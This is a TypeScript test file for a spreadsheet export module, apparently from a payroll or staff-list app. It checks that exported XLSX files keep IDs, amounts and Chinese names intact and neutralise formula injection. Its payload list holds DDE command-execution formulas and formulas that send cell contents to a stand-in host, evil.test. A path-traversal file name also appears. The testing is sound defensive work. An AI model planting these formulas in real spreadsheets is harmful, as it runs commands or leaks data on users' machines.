import { strFromU8, unzipSync } from 'fflate';
import readXlsxFile from 'read-excel-file/universal';
import { describe, expect, it } from 'vitest';
import { safeText, withoutGuard } from '@/lib/sheets/safe-text';
import { writeWorkbook } from '@/lib/sheets/write-workbook';
import type { ListColumn } from '@/ui/table/column';
import { safeFileName } from '@/ui/table/xlsx/safe-file-name';
import { sheetInWork } from '@/ui/table/xlsx/sheet';
import { writeXlsx } from '@/ui/table/xlsx/write-xlsx';
import { readWorkbook } from '../../../lib/sheets/first-sheet';
import { PEOPLE } from '../../../people';

interface Line {
  xingming: string;
  zjhm: string;
  zh: string;
  je: string;
}

const COLUMNS: readonly ListColumn<Line>[] = [
  { prop: 'xingming', label: '姓名', width: 120 },
  { prop: 'zjhm', label: '证件号码', width: 180 },
  { prop: 'zh', label: '账号', width: 160 },
  { prop: 'je', label: '金额', width: 120, type: 'money' },
];
const WORDS = { options: () => [] };

/** The rows below the head, as another program reads them. */
async function readBack(lines: readonly Line[], columns = COLUMNS): Promise<unknown[][]> {
  const file = await writeXlsx([
    sheetInWork({ name: '职工列表', title: '职工列表', marks: ['编号 DC1'] }, columns, lines, WORDS),
  ]);
  const [sheet] = await readXlsxFile(await file.arrayBuffer());
  return (sheet?.data ?? []).slice(3);
}

const line = (more: Partial<Line>): Line => ({ xingming: '王伟', zjhm: '', zh: '', je: '', ...more });

const written = (rows: readonly (readonly string[])[]) =>
  writeWorkbook(
    '表',
    [
      { title: '原值', width: 12, kind: 'text' },
      { title: '问题', width: 12, kind: 'text' },
    ],
    rows,
  );

/** What attackers put into names and remarks, and what merely looks like it. */
const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.test?x="&A1,"点击")',
  '=WEBSERVICE("https://evil.test/"&B2)',
  '=IMPORTXML(CONCAT("https://evil.test/",A1),"//a")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '+1+1',
  `+86 ${PEOPLE.张建国.sjhm}`,
  '-1+1',
  "-2+3+cmd|' /C calc'!D2",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '=',
  '=DDE("cmd";"/C calc";"1")',
  "=1+1'",
  '=\u0000=1',
  '+"',
];

/** What every object of the language knows before anything was put into it, and what breaks XML where it is not written right. */
const AWKWARD = [
  'constructor',
  'toString',
  '__proto__',
  'hasOwnProperty',
  'valueOf',
  '0',
  '<b>&amp;"甲"</b>',
  ']]>',
  '_x0041_',
  '第一行\n第二行',
  '第一行\r\n第二行',
  ' 前后 ',
  '𠮷',
];

describe('an exported file, read back by another library', () => {
  it.each(AWKWARD)('keeps the text %j, and every other of the same list', async (text) => {
    const rows = await readBack([line({}), line({ xingming: text, zh: text }), line({ xingming: '李芳' })]);
    const seen = rows.map(([name, , zh]) => [name, zh]);
    expect(seen[0]).toEqual(['王伟', null]);
    expect(seen[2]).toEqual(['李芳', null]);
    // The other library trims, and leaves the way in which Excel writes what XML cannot as it is.
    const plain = (value: unknown) => String(value).trim().replace('_x005F_', '_').replaceAll('\r\n', '\n');
    expect(seen[1]?.map(plain)).toEqual([plain(text), plain(text)]);
    const ours = await readWorkbook(await (await written([[text, text]])).arrayBuffer());
    expect(ours[1]).toEqual([text, text]);
  });

  it('guards templates and error lists as well, and a template is read back as what it stands for', async () => {
    const file = await written(PAYLOADS.map((payload) => [payload, '1']));
    const [sheet] = await readXlsxFile(await file.arrayBuffer());
    for (const [index, payload] of PAYLOADS.entries()) {
      const cell = String(sheet?.data[index + 1]?.[0]);
      expect(cell, payload).toMatch(/^'/);
      expect(withoutGuard(cell)).toBe(cell.slice(1));
    }
    expect(withoutGuard("'王伟")).toBe("'王伟");
  });

  it('runs nothing: each payload is a text that begins with none of the signs', async () => {
    const rows = await readBack(PAYLOADS.map((xingming) => line({ xingming })));
    expect(rows).toHaveLength(PAYLOADS.length);
    for (const [index, [cell]] of rows.entries()) {
      expect(cell, PAYLOADS[index]).toEqual(expect.stringMatching(/^'/));
      // Nothing but the sign before it and characters no file may hold has changed.
      expect(String(cell).slice(1).replace(/\s/g, '')).toBe((PAYLOADS[index] ?? '').replace(/\s|\p{Cc}/gu, ''));
    }
  });

  it.each(PAYLOADS)('neutralises %j also where nothing has trimmed it', (payload) => {
    expect(safeText(payload)).toMatch(/^'/);
    expect(safeText(safeText(payload))).toBe(safeText(payload));
  });

  it('keeps identifiers as they are: 18 and 19 digits, X, leading zeros', async () => {
    const ids = [PEOPLE.张建国.zjhm, '11010519920815342X', '000000000000000001', '110***********1219'];
    const accounts = [PEOPLE.张建国.yhzh, '0001234567', PEOPLE.张建国.grzh, '6222***********1374'];
    const rows = await readBack(ids.map((zjhm, index) => line({ zjhm, zh: accounts[index] ?? '' })));
    expect(rows.map((row) => [row[1], row[2]])).toEqual(ids.map((id, index) => [id, accounts[index]]));
  });

  it('keeps amounts exact to the fen: as number up to 15 digits, as text beyond', async () => {
    const amounts = ['0.00', '0.01', '-0.01', '1.005', '8.345', '122226.82', '9999999999999.99', '-3000.00', '1234.5'];
    const rows = await readBack(amounts.map((je) => line({ je })));
    expect(rows.map((row) => row[3])).toEqual([
      0,
      0.01,
      -0.01,
      '¥1.01',
      '¥8.35',
      122226.82,
      9999999999999.99,
      -3000,
      1234.5,
    ]);
    const [[, , , most] = []] = await readBack([line({ je: '999999999999999.99' })]);
    expect(most).toBe('¥999,999,999,999,999.99');
  });

  it('leaves empty what has nothing to say, also where a slot shows a dash', async () => {
    const columns: ListColumn<Line>[] = [
      ...COLUMNS.slice(0, 2),
      { prop: 'zh', label: '账号', width: 90, slotname: 'zh' },
    ];
    const slots = { zh: { text: () => '--' } };
    const sheet = sheetInWork({ name: '表', title: '表', marks: [] }, columns, [line({ zh: '1' })], {
      ...WORDS,
      slots,
    });
    expect([...sheet.rows]).toEqual([[{ text: '王伟' }, { text: '' }, { text: '' }]]);
    expect(safeText('--')).toBe('--');
    expect(safeText('- -')).toBe('- -');
  });

  it('ends with the sums of what may be added up, as numbers of two decimals', async () => {
    const columns = COLUMNS.map((column) => (column.prop === 'je' ? { ...column, total: true as const } : column));
    const lines = [line({ je: '1234.50' }), line({}), line({ je: '-0.25' })];
    expect((await readBack(lines, columns)).at(-1)).toEqual(['合计', null, null, 1234.25]);
    expect((await readBack(lines)).at(-1)).toEqual(['王伟', null, null, -0.25]);
    expect((await readBack([], columns)).length).toBe(0);
    const file = await writeXlsx([sheetInWork({ name: '表', title: '表', marks: [] }, columns, lines, WORDS)]);
    const { 'xl/styles.xml': look, 'xl/worksheets/sheet1.xml': sheet } = unzipSync(
      new Uint8Array(await file.arrayBuffer()),
    );
    const formats = [
      ...(strFromU8(look ?? new Uint8Array())
        .split('<cellXfs')[1]
        ?.matchAll(/<xf numFmtId="(\d+)"/g) ?? []),
    ];
    const style = /<c r="D6" s="(\d+)"><v>1234.25/.exec(strFromU8(sheet ?? new Uint8Array()))?.[1];
    // 4 is #,##0.00.
    expect(formats[Number(style)]?.[1]).toBe('4');
  });

  it('does not add up where one cell is no amount', () => {
    const columns: ListColumn<Line>[] = [{ prop: 'je', label: '金额', width: 90, type: 'money', total: true }];
    const rows = [line({ je: '1.00' }), line({ je: '不详' })];
    const { rows: cells, totals } = sheetInWork({ name: '表', title: '表', marks: [] }, columns, rows, WORDS);
    expect([...cells]).toHaveLength(2);
    expect(typeof totals === 'function' && totals()).toBeUndefined();
  });

  it('keeps Chinese, rare characters, the dot of names and quotes', async () => {
    const names = [
      '陈𠮷祥',
      '阿依古丽·买买提',
      '𬭚𫖯',
      '“引号”与<标签>&符号',
      "O'Neil",
      'ABC Trading Co Ltd',
      '第一行\n第二行',
    ];
    const rows = await readBack(names.map((xingming) => line({ xingming })));
    expect(rows.map((row) => row[0])).toEqual(names);
  });

  it('masks a column that is to be masked, whatever the answer held', async () => {
    const masked: ListColumn<Line>[] = [
      { prop: 'xingming', label: '姓名', width: 100, mask: 'name' },
      { prop: 'zjhm', label: '证件号码', width: 100, mask: 'id' },
      { prop: 'zh', label: '银行卡', width: 100, mask: 'card' },
      { prop: 'je', label: '手机', width: 100, mask: 'phone' },
    ];
    const plain = line({ zjhm: PEOPLE.张建国.zjhm, zh: PEOPLE.张建国.yhzh, je: PEOPLE.张建国.sjhm });
    expect(await readBack([plain], masked)).toEqual([
      ['王*', '110***********1219', '6222***********1374', '138****0001'],
    ]);
  });

  it('drops what no file may hold, and cuts at what a cell holds', async () => {
    expect(safeText('a\u0000b\u000Bc\uD800d\uFFFFe')).toBe('abcde');
    expect(safeText('长'.repeat(40_000))).toHaveLength(32_767);
    const [[cell] = []] = await readBack([line({ xingming: 'a\u0000b\u0008c\uD800d' })]);
    expect(cell).toBe('abcd');
  });
});

it('gives files names that every system takes', () => {
  expect(safeFileName('职工列表_DC1')).toBe('职工列表_DC1');
  expect(safeFileName('../../etc/pass\u202Ewd:<>|?*"')).toBe('etcpasswd');
  expect(safeFileName('\u0000/')).toBe('导出');
});
